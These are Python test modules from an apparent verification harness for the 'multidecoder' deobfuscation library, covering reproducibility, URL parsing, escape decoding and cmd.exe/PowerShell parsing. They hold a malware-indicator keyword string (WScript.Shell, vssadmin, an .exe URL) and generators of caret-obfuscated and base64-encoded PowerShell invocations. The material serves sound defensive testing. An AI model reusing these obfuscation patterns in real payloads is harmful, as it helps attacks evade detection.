                cpath = os.path.join(work, f"corpus{j}.json")
                with open(cpath, "w") as f:
                    json.dump([c.hex() for c in corpus], f)
                case = {"kind": "dirorder-custom", "j": j}
                if not ctx.begin(case):
                    continue
                procs = []
                for i in range(4):
                    op = os.path.join(work, f"o{j}_{i}.json")
                    procs.append((f"fs-order={i}/hashseed={i}", op, spawn_worker(cpath, op, i * 31, f"{ctx.seed}/{j}/{i}" if i else "-", d)))
                results = []
                for tag, op, p in procs:
                    _, err = p.communicate()
                    if p.returncode != 0:
                        ctx.violation("repro:dirorder:worker-failed", f"{tag}: {err[-300:]!r}", case)
                        continue
                    with open(op) as f:
                        results.append((tag, json.load(f)["digests"]))
                    ctx.count("dirorder_processes")
                ctx.evaluated(len(results) * len(corpus))
                if results:
                    compare_runs(results, corpus, ctx, "dirorder-custom", "dirorder_comparisons")
                ctx.nontrivial(f"custom{j}")
                shutil.rmtree(d, ignore_errors=True)
        elif gen == "threads":
            run_threads(ctx, r)
        else:
            run_cli_dim(ctx, r, work)
    finally:
        shutil.rmtree(work, ignore_errors=True)


def run_history(ctx, r):
    from multidecoder.multidecoder import Multidecoder

    gens = [inputs.generate({"gen": g}, r) for g in ("seedmut", "url", "ctxdec", "layer", "repeat", "ioc", "cmd")]
    md = Multidecoder()
    earlier = []  # (data, depth, root object, digest at return time)
    i = 0
    while not ctx.expired():
        i += 1
        data = next(r.choice(gens))[1][:4000]
        depth = r.choice([None, None, 1, 2, 3, 5])
        case = {"kind": "history", "data": runner.hx(data), "depth": depth}
        if not ctx.begin(case):
            continue
        ctx.evaluated()

        def scan(m, d=depth):
            return m.scan(data) if d is None else m.scan(data, d)

        try:
            first = scan(md)
        except Exception:  # noqa: BLE001 - C01's business
            ctx.count("scan_raised(C01)")
            continue
        d0 = dg(first)
        if first.children:
            ctx.nontrivial(b"history" + data)
        for rep in range(2):
            ctx.count("history_comparisons")
            if dg(scan(md)) != d0:
                ctx.violation("repro:history:repeat", f"repeating the scan of {data[:80]!r} on the same scanner gives a different tree", case)
                break
        ctx.count("history_comparisons")
        if dg(scan(Multidecoder())) != d0:
            ctx.violation("repro:history:fresh-scanner", f"a fresh scanner gives a different tree for {data[:80]!r} (depth {depth})", case)
        # the same input at other depth limits in between, plus unrelated scans
        for k in (1, 2, None, 4):
            try:
                md.scan(data) if k is None else md.scan(data, k)
            except Exception:  # noqa: BLE001
                pass
        for _ in range(r.choice([0, 3, 50]) if i % 5 == 0 else 1):
            try:
                md.scan(next(r.choice(gens))[1][:2000])
            except Exception:  # noqa: BLE001
                pass
        ctx.count("history_comparisons")
        if dg(scan(md)) != d0:
            ctx.violation("repro:history:after-other-scans", f"after other scans (incl. the same input at other depth limits) the same "
                                                             f"scanner gives a different tree for {data[:80]!r} (depth {depth})", case)
        ctx.count("earlier_trees_rechecked")
        if dg(first) != d0:
            ctx.violation("repro:history:returned-tree-mutated", f"a tree returned earlier changed after later scans ({data[:80]!r})", case)
        # values met inside this tree, scanned on their own by the re-used scanner and by a fresh one
        vals = [bytes(n.value) for n in first if 0 < len(n.value) <= 2000][:40]
        if vals:
            for v in r.sample(vals, min(3, len(vals))):
                ctx.count("history_comparisons")
                ctx.count("node_values_rescanned")
                try:
                    a1, a2 = dg(md.scan(v)), dg(Multidecoder().scan(v))
                except Exception:  # noqa: BLE001
                    continue
                if a1 != a2:
                    ctx.violation("repro:history:value-seen-before", f"after {data[:60]!r} the re-used scanner gives a different tree than a "
                                                                     f"fresh one for {v[:60]!r}, a value met inside the earlier result",
                                  {"kind": "history2", "first": runner.hx(data), "data": runner.hx(v), "depth": None})
        earlier.append((data, depth, first, d0))
        if len(earlier) > 40:
            old = earlier.pop(0)
            ctx.count("earlier_trees_rechecked")
            if dg(old[2]) != old[3]:
                ctx.violation("repro:history:returned-tree-mutated", f"a tree returned 40 scans ago changed afterwards ({old[0][:80]!r})",
                              {"kind": "history", "data": runner.hx(old[0]), "depth": old[1]})
        if i % 53 == 1:
            ctx.sample({"dimension": "history", "input": repr(data[:80]), "depth": depth, "digest": d0})


def run_threads(ctx, r):
    import sys

    from multidecoder.multidecoder import Multidecoder

    gens = [inputs.generate({"gen": g}, r) for g in ("seedmut", "url", "ctxdec", "layer", "repeat")]
    old = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    try:
        rounds = 0
        while not ctx.expired():
            rounds += 1
            xor_heavy = rounds % 2 == 0  # every other round: only inputs that go through the xor helpers shared by three decoders
            corpus = [] if xor_heavy else [next(r.choice(gens))[1][:1000] for _ in range(10)]
            while len(corpus) < 14:  # module-level helpers used by several decoders in a row
                xd, _, _, form = codecgen.c13_xor_case(r)
                if form != "bytes":
                    corpus.append(xd[:1500])
            corpus += corpus[:4]  # the same input concurrently in several threads
            case = {"kind": "threads", "datas": [runner.hx(c) for c in corpus]}
            if not ctx.begin(case):
                continue
            single = Multidecoder()
            want = []
            for c in corpus:
                try:
                    want.append(dg(single.scan(c)))
                except Exception:  # noqa: BLE001
                    want.append(None)
            shared = Multidecoder()
            trace = []
            yrng = runner.rng(ctx.seed, "yield", rounds)

            def wrap(f):
                def g(data):
                    trace.append(threading.get_ident())
                    if yrng.random() < 0.02:
                        time.sleep(0)
                    return f(data)
                return g

            shared.decoders[:] = [wrap(f) for f in shared.decoders]
            results = {}

            def work(tid):
                order = list(range(len(corpus)))
                runner.rng(ctx.seed, "order", rounds, tid).shuffle(order)
                for i in order:
                    try:
                        results[(tid, i)] = dg(shared.scan(corpus[i]))
                    except Exception as e:  # noqa: BLE001
                        results[(tid, i)] = "EXC:" + type(e).__name__

            ths = [threading.Thread(target=work, args=(t,)) for t in range(8)]
            for t in ths:
                t.start()
            for t in ths:
                t.join()
            alternations = sum(1 for a, b in zip(trace, trace[1:]) if a != b)
            ctx.count("thread_alternations", alternations)
            ctx.evaluated(len(results))
            for (tid, i), d in results.items():
                if want[i] is None:
                    continue
                ctx.count("thread_results_compared")
                if d != want[i]:
                    ctx.violation("repro:threads", f"thread {tid} sharing one scanner got a different tree for {corpus[i][:80]!r} ({d})",
                                  {"kind": "history", "data": runner.hx(corpus[i]), "depth": None})
            for c in corpus[:5]:
                ctx.nontrivial(b"threads" + c)
            if rounds % 2 == 1:
                cold_start(ctx, r, single, corpus, rounds)
            if rounds % 5 == 1:
                ctx.sample({"dimension": "threads", "threads": 8, "inputs": len(corpus), "decoder_calls_logged": len(trace),
                            "thread_alternations_in_call_log": alternations})
    finally:
        sys.setswitchinterval(old)


KEYWORD_RICH = (b" strlen StrLen GetModuleFileName VirtualAlloc onclose CreateObject WScript.Shell LoadLibrary "
                b"HKEY_LOCAL_MACHINE vssadmin bitcoin Norton http://example.com/a.exe ")


def cold_start(ctx, r, single, corpus, rounds):
    """First use of a never-used scanner from several threads at once (anything initialised lazily on first use is
    initialised under contention); the reference is the warmed-up scanner's result for the same text."""
    from multidecoder.multidecoder import Multidecoder

    for j in range(6):
        data = r.choice(corpus)[:300] + KEYWORD_RICH
        try:
            want = dg(single.scan(data))
        except Exception:  # noqa: BLE001
            continue
        fresh = Multidecoder()
        n = 6
        barrier = threading.Barrier(n)
        got = {}

        def work(tid):
            barrier.wait()
            try:
                got[tid] = dg(fresh.scan(data))
            except Exception as e:  # noqa: BLE001
                got[tid] = "EXC:" + type(e).__name__

        ths = [threading.Thread(target=work, args=(t,)) for t in range(n)]
        for t in ths:
            t.start()
        for t in ths:
            t.join()
        ctx.count("cold_start_rounds")
        ctx.evaluated(n)
        for tid, d in got.items():
            ctx.count("thread_results_compared")
            if d != want:
                ctx.violation("repro:threads:first-use", f"thread {tid} of {n} starting together on a never-used scanner got a different tree "
                                                         f"for {data[:60]!r} ({d})", {"kind": "coldstart", "data": runner.hx(data)})
                return


def run_cli_dim(ctx, r, work):
    gens = [inputs.generate({"gen": g}, r) for g in ("seedmut", "url", "ctxdec")]
    corpus, _ = tie_corpus(r, 40)
    i = 0
    while not ctx.expired():
        i += 1
        data = corpus[i % len(corpus)] if i % 2 else next(r.choice(gens))[1][:3000]
        mode = r.choice([[], ["--json"]])
        case = {"kind": "cli", "data": runner.hx(data), "mode": mode}
        if not ctx.begin(case):
            continue
        path = os.path.join(work, "in.bin")
        with open(path, "wb") as f:
            f.write(data)
        outs = []
        for hs, stdin in (("0", False), (str(1 + i), False), ("77", True)):
            rc, out, err = cli.run_cli(mode + ([] if stdin else [path]), stdin=data if stdin else None, hashseed=hs)
            outs.append((hs, stdin, rc, out))
        ctx.evaluated(3)
        for hs, stdin, rc, out in outs[1:]:
            ctx.count("cli_comparisons")
            if (rc, out) != (outs[0][2], outs[0][3]):
                ctx.violation("repro:cli", f"CLI output for {data[:80]!r} ({mode}) differs between PYTHONHASHSEED=0/file and "
                                           f"PYTHONHASHSEED={hs}/{'stdin' if stdin else 'file'}", case)
        ctx.nontrivial(b"cli" + data)
        if i % 5 == 1:
            ctx.sample({"dimension": "cli", "input": repr(data[:60]), "mode": mode, "stdout_sha1": hashlib.sha1(outs[0][3]).hexdigest()[:12]})


def replay(case, ctx):
    import sys

    from multidecoder.multidecoder import Multidecoder

    if case.get("kind") == "coldstart":
        data = runner.unhx(case["data"])
        single = Multidecoder()
        single.scan(data)
        old = sys.getswitchinterval()
        sys.setswitchinterval(1e-6)
        try:
            for i in range(40):
                cold_start(ctx, runner.rng(ctx.seed, "replay", i), single, [data[: -len(KEYWORD_RICH)] if data.endswith(KEYWORD_RICH) else data], i)
        finally:
            sys.setswitchinterval(old)
        return
    if case.get("kind") == "history2":
        md = Multidecoder()
        md.scan(runner.unhx(case["first"]))
        v = runner.unhx(case["data"])
        ctx.evaluated()
        if dg(md.scan(v)) != dg(Multidecoder().scan(v)):
            ctx.violation("repro:history:value-seen-before", "re-used scanner differs from a fresh one on a value met in an earlier result", case)
        return

    if case.get("kind") in ("history", "hashseed", "dirorder", "dirorder-custom") and "data" in case:
        data = runner.unhx(case["data"])
        depth = case.get("depth")
        ctx.evaluated()
        work = tempfile.mkdtemp(prefix="vf_c09_", dir=env.scratch_root())
        try:
            cpath = os.path.join(work, "c.json")
            with open(cpath, "w") as f:
                json.dump([data.hex()], f)
            res = []
            for i, (hs, fs) in enumerate([(0, "-"), (1, "-"), (12345, "-"), (0, "x/1"), (0, "x/2"), (7, "x/3")]):
                op = os.path.join(work, f"o{i}.json")
                p = spawn_worker(cpath, op, hs, fs)
                p.communicate()
                with open(op) as f:
                    res.append((f"hashseed={hs},fs={fs}", json.load(f)["digests"]))
            compare_runs(res, [data], ctx, case["kind"] if case["kind"] != "history" else "hashseed", "hashseed_comparisons")
        finally:
            shutil.rmtree(work, ignore_errors=True)
        md = Multidecoder()
        first = md.scan(data) if depth is None else md.scan(data, depth)
        d0 = dg(first)
        for k in (1, 2, None, 4):
            md.scan(data) if k is None else md.scan(data, k)
        again = md.scan(data) if depth is None else md.scan(data, depth)
        if dg(again) != d0:
            ctx.violation("repro:history:after-other-scans", "same scanner gives a different tree after scans at other depth limits", case)
        if dg(first) != d0:
            ctx.violation("repro:history:returned-tree-mutated", "a tree returned earlier changed after later scans", case)
        if dg(Multidecoder().scan(data) if depth is None else Multidecoder().scan(data, depth)) != d0:
            ctx.violation("repro:history:fresh-scanner", "a fresh scanner gives a different tree", case)
