"""C14 - character-escape decodings (XML refs, chr(), unescape(), UTF-16) are exact."""

from __future__ import annotations

from vf import mon_codec, runner
from vf.gens import codecgen
from vf.props import codec_common as cc

ID = "C14"
RULE = ("(soundness) every node labelled unescape.xml / function.chr / function.unescape / codec.uft-16 met in layered, mutated, soup and "
        "skeleton workloads is re-derived from the text it replaced (own reference tokeniser / chr / percent decoder / Latin-1 pair "
        "decoder) and must cover exactly the escaped expression. (completeness) all 256 byte values as decimal / hex / mixed "
        "references incl. leading zeros and runs of exactly 5, hex references that spell a decimal reference (decoded once), "
        "chr|chrw|chrb x code points 0..300, the surrogate range (must not be reported), 65535, 65536, 99999 x leading zeros x case, "
        "sequences of chr calls with unencodable ones in between, unescape('...') with every byte escaped / unescaped / malformed "
        "escapes, UTF-16 runs of 7/8/more over the whole allowed Latin-1 set: one node with the documented type, label, exact span "
        "and value. Added after the blind seed rounds: upper-case X reference markers, UTF-16 runs joined by NUL characters, a 'big' shard (3 kB..140 kB), expressions partially overlapped by a path (/usr/share/chr(65)), an earlier lone quote character, pairs of expressions in one text. "
        "distinct_nontrivial = distinct inputs with a judged node / case.")
ASSUMPTIONS = ["utf-16 values are compared as the UTF-8 encoding of the Latin-1 characters of the pairs"]
EXPECTED_WALL = {"quick": 50, "thorough": 400}
REQUIRED = {"stacks_judged": 187, "c14_unescape.xml": 62, "c14_function.chr": 62, "c14_function.unescape": 62, "c14_codec.uft-16": 37,
            "absent_cases": 5, "chr_sequences": 18, "complete:utf16-latin1": 6, "complete:xml-leading-zero": 6}


def plan(tier, seed):
    quick = tier == "quick"
    secs = 25 if quick else 300
    shards = [{"name": f"complete{i}", "gen": "complete", "seconds": secs} for i in range(7)]
    shards += [{"name": f"chrseq{i}", "gen": "extra", "seconds": secs} for i in range(2)]
    shards.append({"name": "big", "gen": "big", "seconds": secs})  # expressions longer than any plausible fixed limit
    for g in ("layer", "seedmut", "soup", "matryoshka", "ctxdec"):
        shards.append({"name": g, "gen": g, "seconds": secs})
    from vf.gens import skel
    items = [it for it in skel.plan(400 if quick else 4000) if skel.SKELETONS[it[0]][0] in ("xml", "xml2", "chr", "chrw", "unescape", "utf16")]
    shards.append({"name": "skel", "gen": "skel", "items": items})
    return shards


def chr_sequences(r, ctx):
    h, _ = cc.harnesses()
    i = 0
    while not ctx.expired():
        i += 1
        if i % 4 == 0:
            a, b, data, sa, sb = codecgen.c14_utf16_pair(r)
            case = {"kind": "utf16pair", "data": runner.hx(data), "a": runner.hx(a), "b": runner.hx(b), "sa": sa, "sb": sb}
            if ctx.begin(case):
                judge_utf16_pair(a, b, data, sa, sb, ctx, case)
            continue
        cps, parts, data = codecgen.c14_chr_sequence(r)
        case = {"kind": "chrseq", "data": runner.hx(data), "cps": cps}
        if not ctx.begin(case):
            continue
        judge_chrseq(cps, data, ctx, case)
        if i % 101 == 1:
            ctx.sample({"chr_sequence": repr(data), "code_points": cps})


def judge_chrseq(cps, data, ctx, case):
    h, _ = cc.harnesses()
    ctx.evaluated()
    ctx.count("chr_sequences")
    try:
        root = h.scan(data)
    except Exception as e:  # noqa: BLE001
        ctx.count("scan_raised(C01):" + type(e).__name__)
        return
    got = [bytes(n.value) for n in root if n.obfuscation == "function.chr"]
    want = []
    for c in cps:
        try:
            want.append(chr(c).encode("utf-8"))
        except UnicodeEncodeError:
            pass
    if got != want:
        kind = "lost-after-unencodable" if len(got) < len(want) else "other"
        ctx.violation(f"chr:sequence:{kind}", f"chr calls {cps} in one text: reported {got}, expected {want}; input {data!r}", case)
    ctx.nontrivial(data)


def judge_utf16_pair(a, b, data, sa, sb, ctx, case):
    """Two wide runs separated by an odd number of NUL bytes: each is an expression of its own with its own exact span."""
    h, _ = cc.harnesses()
    ctx.evaluated()
    ctx.count("utf16_pairs")
    try:
        root = h.scan(data)
    except Exception as e:  # noqa: BLE001
        ctx.count("scan_raised(C01):" + type(e).__name__)
        return
    got = sorted((n.start, n.end, bytes(n.value)) for n in root.children if n.obfuscation == "codec.uft-16")
    want = [(sa, sa + 2 * len(a), a), (sb, sb + 2 * len(b), b)]
    if got != want:
        ctx.violation("utf16:misaligned-pair", f"two UTF-16 runs separated by {sb - sa - 2 * len(a)} NUL byte(s): reported {got}, expected {want}; input {data!r}", case)
    mon_codec.check_c14(root, lambda k, m: ctx.violation(k, f"{m}; input {data[:100]!r}", case), ctx.counters)
    ctx.nontrivial(data)


def run_shard(spec, ctx):
    cc.run_shard(ID, spec, ctx, codecgen.c14_case, mon_codec.check_c14, extra=chr_sequences)


def replay(case, ctx):
    if case.get("kind") == "utf16pair":
        judge_utf16_pair(runner.unhx(case["a"]), runner.unhx(case["b"]), runner.unhx(case["data"]), case["sa"], case["sb"], ctx, case)
    elif case.get("kind") == "chrseq":
        judge_chrseq(case["cps"], runner.unhx(case["data"]), ctx, case)
    else:
        cc.replay(ID, case, ctx, mon_codec.check_c14)
