"""C16 - shell commands are delimited and de-escaped by cmd.exe rules."""

from __future__ import annotations

import itertools

from vf import mon_shell, runner, scan
from vf.gens import base, inputs, shellgen
from vf.refs import caret

ID = "C16"
A7 = [b"^", b'"', b"\r", b"\n", b"a", b"(", b" "]
A9 = [b"^", b'"', b"\r", b"\n", b"(", b")", b"a", b" ", b"\x00"]
RULE = ("(1) strip_carets == independent caret automaton on EVERY string of length <=L over {^,\",CR,LF,a,(,space} (L=7 quick, 9 "
        "thorough) and on every call any workload makes (function wrapper); (2) find_cmd_strings on cmd + every tail <=5 over "
        "{^,\",CR,LF,(,),a,space,NUL} in 5 embeddings, plus random command texts: starts/ends recomputed from the text (cmd "
        "token, first unbalanced ')', NUL, end of text), value == automaton(span) (token-wise after stray-quote repair), label "
        "iff changed; (3) find_powershell_strings on constructed invocations (every -e..-encodedcommand prefix, -// styles, "
        "quoting, carets, 0-3 value-less switches, separators incl. ^CRLF) with expected start/end/value known by "
        "construction for clean separators, and on arbitrary text with the end rule recomputed (nearest quote / FOR opener "
        "before the token; missing closer -> end of text). Added after the blind seed rounds: openers up to 20000 bytes before the invocation, encoded commands of up to 100 kB, payloads with a byte order mark (either byte order), an earlier invocation in the same text. "
        "distinct_nontrivial = distinct texts with at least one shell result.")
ASSUMPTIONS = ["'(?:.exe)' in the cmd token is read with an unescaped dot, as the pattern documents it",
               "white space is compared token-wise only when the stray closing quote of the command token is repaired",
               "the span of the decoded child of a caret-obfuscated encoded command is C03's known finding, not judged here"]
EXPECTED_WALL = {"quick": 40, "thorough": 400}
REQUIRED = {"strip_carets_exhaustive": 900000, "strip_carets_calls_observed": 625, "cmd_hits_judged": 6250,
            "cmd_cut_at_paren_not_last_byte": 12, "cmd_stray_quote": 5, "ps_hits_judged": 625, "ps_encoded": 62,
            "ps_encoded_with_carets": 6, "ps_constructed_asserted": 37, "ps_plain:no-context": 6, "ps_plain:for-loop": 5,
            "ps_plain:dquote": 6, "ps_plain:squote": 6}


def plan(tier, seed):
    quick = tier == "quick"
    L = 7 if quick else 9
    nsh = 6 if quick else 10
    shards = [{"name": f"carets{i}", "gen": "carets", "L": L, "shard": i, "nshards": nsh} for i in range(nsh)]
    shards += [{"name": f"cmdexh{i}", "gen": "cmdexh", "L": 5 if quick else 6, "shard": i, "nshards": 4} for i in range(4)]
    secs = 20 if quick else 250
    for g in ("cmdrand", "psenc", "psenc2", "psplain", "scan-seedmut", "scan-soup"):
        shards.append({"name": g, "gen": g, "seconds": secs})
    return shards


_wrapped = False
_contract_log = {"calls": 0, "bad": []}


def install_contract():
    """Wrap shell.strip_carets (looked up through the module globals at call time) so that every call made by
    any workload is compared with the automaton. Record-and-continue, never raises."""
    global _wrapped
    if _wrapped:
        return
    from multidecoder.decoders import shell

    orig = shell.strip_carets

    def strip_carets(cmd):
        _contract_log["calls"] += 1
        try:
            out = orig(cmd)
        except Exception as e:  # noqa: BLE001
            if len(_contract_log["bad"]) < 5:
                _contract_log["bad"].append((bytes(cmd), "raised " + type(e).__name__))
            raise
        if out != caret.ref(bytes(cmd)):
            if len(_contract_log["bad"]) < 5:
                _contract_log["bad"].append((bytes(cmd), repr(out[:80])))
        return out

    strip_carets.__wrapped__ = orig
    shell.strip_carets = strip_carets
    _wrapped = True


def drain_contract(ctx, case):
    n = _contract_log["calls"]
    if n:
        ctx.count("strip_carets_calls_observed", n)
        _contract_log["calls"] = 0
    for cmd, got in _contract_log["bad"]:
        ctx.violation("carets:contract", f"strip_carets({cmd[:80]!r}) -> {got}, automaton gives {caret.ref(cmd)[:80]!r}",
                      {"kind": "carets", "data": runner.hx(cmd)})
    _contract_log["bad"].clear()


def judge_text(data, ctx, case, expect=None):
    from multidecoder.decoders import shell

    ctx.evaluated()

    def report(key, msg):
        ctx.violation(key, msg, case)

    any_hit = False
    try:
        hits = shell.find_cmd_strings(data)
        mon_shell.check_cmd_hits(data, hits, report, ctx.counters)
        any_hit = any_hit or bool(hits)
    except Exception as e:  # noqa: BLE001
        ctx.violation("cmd:" + scan.exc_key(e), f"find_cmd_strings raised {scan.exc_text(e)} on {data[:100]!r}", case)
    try:
        hits = shell.find_powershell_strings(data)
        mon_shell.check_ps_hits(data, hits, report, ctx.counters)
        any_hit = any_hit or bool(hits)
        if expect is not None:
            check_expect(data, hits, expect, report, ctx)
    except Exception as e:  # noqa: BLE001
        ctx.violation("ps:" + scan.exc_key(e), f"find_powershell_strings raised {scan.exc_text(e)} on {data[:100]!r}", case)
    drain_contract(ctx, case)
    if any_hit:
        ctx.nontrivial(data)


CLEAN_SEPS = (b" ", b"\t", b"  ")


def recognisable(prefix: bytes) -> bool:
    p = prefix.rstrip(b" \t\r\n")
    if prefix == b"":
        return True
    if p.lower().endswith((b"/c", b"/k", b"/r")):
        return True
    return p[-1:] in b";,=&'\"({\\" and p != b""


def check_expect(data, hits, rec, report, ctx):
    """Ground truth by construction for clean encoded invocations."""
    if not all(s in CLEAN_SEPS for s in rec["seps"]):
        ctx.count("ps_constructed_dirty_separators(totality only)")
        return
    if not recognisable(rec["prefix"]) or (b"powershell" in rec["prefix"].lower() and not rec.get("pair")):
        return
    import base64 as b64mod

    if rec.get("pair"):
        ctx.count("ps_constructed_after_another_invocation")
    raw = rec.get("raw") or rec["payload"].encode("utf-16-le")
    if raw[:2] in (b"\xff\xfe", b"\xfe\xff"):
        ctx.count("ps_constructed_with_byte_order_mark")
    b64 = b64mod.b64encode(raw)
    if len(b64.rstrip(b"=")) < 4:
        return  # the documented argument pattern needs at least four base64 characters before the padding
    arg = rec["tokens"][-1]
    if rec["quote"] == b'"' and b"^" in arg:
        return  # carets are literal inside double quotes: not valid base64, nothing to decode
    if rec["quote"] == b"" and rec["suffix"][:1] in (b"'", b'"', b"=", b"^"):
        return  # the closing quote of the context glues to the argument: documented end is ambiguous
    if rec["quote"] == b"" and rec["suffix"][:1].isalnum():
        return
    start = len(rec["prefix"])
    text_len = len(data) - len(rec["prefix"]) - len(rec["suffix"])
    end = start + text_len
    ctx.count("ps_constructed_asserted")
    mine = [h for h in hits if h.start == start]
    if not mine:
        report("ps:constructed:missing", f"no powershell result starts at {start} in {data[:120]!r}")
        return
    h = mine[0]
    node = h
    if h.type == "shell.cmd":
        node = next((c for c in h.children if c.type == "shell.powershell"), None)
        if node is None:
            report("ps:constructed:no-child", f"caret node without decoded child for {data[:120]!r}")
            return
    if node.obfuscation != "powershell.base64":
        report("ps:constructed:not-decoded", f"encoded invocation was not decoded (label {node.obfuscation!r}) in {data[:120]!r}")
        return
    if h.end != end:
        report("ps:constructed:end", f"result ends at {h.end}, the encoded argument ends at {end} in {data[:120]!r}")
    toks = [caret.ref(t) for t in rec["tokens"][:-2]]
    toks = [t.replace(b"/", b"-", 1) if t.startswith(b"/") else t for t in toks]
    want = b" ".join(toks) + b" -Command " + rec["payload"].encode("utf-8")
    if bytes(node.value) != want:
        report("ps:constructed:value", f"value {bytes(node.value)[:120]!r}, expected {want[:120]!r}")


def run_shard(spec, ctx):
    from multidecoder.decoders import shell

    install_contract()
    r = runner.rng(ctx.seed, ID, spec["name"])
    gen = spec["gen"]
    if gen == "carets":
        orig = shell.strip_carets.__wrapped__
        idx = 0
        for n in range(spec["L"] + 1):
            # batches by first 3 symbols keep the hang/crash journal cheap
            for head in itertools.product(A7, repeat=min(n, 3)):
                idx += 1
                if idx % spec["nshards"] != spec["shard"]:
                    continue
                hd = b"".join(head)
                case = {"kind": "carets-batch", "head": runner.hx(hd), "n": n}
                if not ctx.begin(case):
                    continue
                cnt = 0
                for tail in itertools.product(A7, repeat=n - len(head)):
                    s = hd + b"".join(tail)
                    cnt += 1
                    try:
                        got = orig(s)
                    except Exception as e:  # noqa: BLE001
                        ctx.violation("carets:" + scan.exc_key(e), f"strip_carets({s!r}) raised {scan.exc_text(e)}",
                                      {"kind": "carets", "data": runner.hx(s)})
                        continue
                    want = caret.ref(s)
                    if got != want:
                        kind = "caret-CR" if b"^\r" in s else "other"
                        ctx.violation(f"carets:mismatch:{kind}", f"strip_carets({s!r}) = {got!r}, automaton {want!r}",
                                      {"kind": "carets", "data": runner.hx(s)})
                    elif got != s:
                        if cnt % 50 == 0:
                            ctx.nontrivial(s)
                ctx.count("strip_carets_exhaustive", cnt)
                ctx.evaluated(cnt)
                if idx % 97 == 1:
                    ctx.sample({"strip_carets_batch": f"all {cnt} strings of length {n} starting with {hd!r}"})
        ctx.count(f"strip_carets_all_strings_len<={spec['L']}_shards_done")
        return
    if gen == "cmdexh":
        heads = [b"cmd", b"cmd /c x", b"c^m^d "]
        embeds = [(b"", b""), (b"hello (", b") bye"), (b'"', b'" z'), (b"for /f %i in ('", b"') do x"), (b"zz ", b"\x00cmd /c q)"),
                  (b"if exist a (", b") else e^cho x")]
        idx = 0
        for head in heads:
            for tail in base.tails(A9, spec["L"]):
                idx += 1
                if idx % spec["nshards"] != spec["shard"]:
                    continue
                pre, post = embeds[idx // spec["nshards"] % len(embeds)]
                data = pre + head + tail + post
                case = {"kind": "text", "data": runner.hx(data)}
                if not ctx.begin(case):
                    continue
                judge_text(data, ctx, case)
                if idx % 3001 == 1:
                    ctx.sample({"cmd_text": repr(data), "expected_spans": mon_shell.expected_cmd_hits(data)})
        return
    i = 0
    seeds = base.harvest_seeds()
    gens = {"scan-seedmut": lambda: inputs.g_seedmut({}, r), "scan-soup": lambda: inputs.g_soup({}, r)}
    it = gens[gen]() if gen in gens else None
    while not ctx.expired():
        i += 1
        expect = None
        if gen == "cmdrand":
            data = shellgen.cmd_text(r)
        elif gen in ("psenc", "psenc2"):
            expect = shellgen.encoded_invocation(r)
            data = expect["data"]
        elif gen == "psplain":
            x = r.random()
            data = shellgen.plain_invocation(r) if x < 0.6 else (shellgen.two_invocations(r) if x < 0.8 else base.mutate(r, shellgen.plain_invocation(r), seeds))
        else:
            _, data, _ = next(it)
        case = {"kind": "text", "data": runner.hx(data)}
        if expect is not None:
            case["expect"] = {"prefix": runner.hx(expect["prefix"]), "suffix": runner.hx(expect["suffix"]), "payload": expect["payload"],
                              "raw": runner.hx(expect["raw"]), "pair": expect["pair"],
                              "tokens": [runner.hx(t) for t in expect["tokens"]], "seps": [runner.hx(s) for s in expect["seps"]],
                              "quote": runner.hx(expect["quote"])}
        if not ctx.begin(case):
            continue
        judge_text(data, ctx, case, expect)
        if gen.startswith("scan-"):
            # the same text through the whole library: every strip_carets call is judged by the wrapper
            try:
                scan_h().scan(data)
            except Exception:  # noqa: BLE001 - C01's business
                pass
            drain_contract(ctx, case)
        if i % 211 == 1:
            ctx.sample({"text": repr(data[:120]), "generator": gen})


_SH = None


def scan_h():
    global _SH
    if _SH is None:
        _SH = scan.Harness(tap=False)
    return _SH


def replay(case, ctx):
    from multidecoder.decoders import shell

    install_contract()
    if case.get("kind") == "carets":
        s = runner.unhx(case["data"])
        ctx.evaluated()
        try:
            got = shell.strip_carets.__wrapped__(s)
        except Exception as e:  # noqa: BLE001
            ctx.violation("carets:" + scan.exc_key(e), f"strip_carets({s!r}) raised {scan.exc_text(e)}", case)
            return
        if got != caret.ref(s):
            kind = "caret-CR" if b"^\r" in s else "other"
            ctx.violation(f"carets:mismatch:{kind}", f"strip_carets({s!r}) = {got!r}, automaton {caret.ref(s)!r}", case)
        return
    if case.get("kind") == "carets-batch":
        hd = runner.unhx(case["head"])
        for tail in itertools.product(A7, repeat=case["n"] - len(hd)):
            replay({"kind": "carets", "data": runner.hx(hd + b"".join(tail))}, ctx)
        return
    expect = None
    if "expect" in case:
        e = case["expect"]
        expect = {"prefix": runner.unhx(e["prefix"]), "suffix": runner.unhx(e["suffix"]), "payload": e["payload"],
                  "raw": runner.unhx(e["raw"]) if e.get("raw") else None, "pair": bool(e.get("pair")),
                  "tokens": [runner.unhx(t) for t in e["tokens"]], "seps": [runner.unhx(s) for s in e["seps"]],
                  "quote": runner.unhx(e["quote"])}
    judge_text(runner.unhx(case["data"]), ctx, case, expect)
