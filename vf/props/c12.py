"""C12 - URL and Windows-path parts index into, and decode from, their parent's value."""

from __future__ import annotations

from vf import mon_net, runner, scan
from vf.gens import inputs
from vf.props import common
from vf.refs import neturl

ID = "C12"
RULE = ("every network.url node (in-range) of every result: its value is split by an independent RFC 3986 appendix-B splitter into "
        "component spans; each part child must span exactly its component and carry the decoded text (scheme lower-cased + MixedCase "
        "iff mixed, user/password/query/fragment percent-decoded, host = canonical inet_aton reading with ip_obfuscation iff the "
        "decoded host text differs, or domain == decoded host text, path = stated dot-segment rule with %2F kept, url.dotpath iff a "
        "segment was removed); on grammar-generated URLs a child must exist for every non-empty component. Every windows.*path node: "
        "value == ntpath.normpath(covered text), windows.dotpath iff shorter, type by prefix, host child at offset 2 / 8 with IP / "
        "domain rules, file-name child == last segment typed by extension. Contracts on parse_url / parse_authority / normalize_path "
        "/ normalize_percent_encoding called directly on generated component texts. distinct_nontrivial = distinct inputs with a "
        "judged URL or Windows path node.")
ASSUMPTIONS = ["ntpath.normpath, socket.inet_aton are trusted", "IP-obfuscation label is read relative to the percent-decoded host text"]
EXPECTED_WALL = {"quick": 50, "thorough": 400}
REQUIRED = {"c12_urls": 375, "c12_url_children": 1250, "c12_urls_value_shorter_than_original": 37, "c12_paths_with_dot_segments": 25,
            "c12_obfuscated_ip_hosts": 6, "c12_windows_paths": 250, "c12_windows_paths_normalised": 25,
            "c12_windows_host_children": 25, "c12_windows_file_children": 62, "direct_calls": 250}
GENS = ("url", "ioc", "seedmut", "ctxdec", "repeat", "soup", "twopaths")


def plan(tier, seed):
    quick = tier == "quick"
    secs = 25 if quick else 300
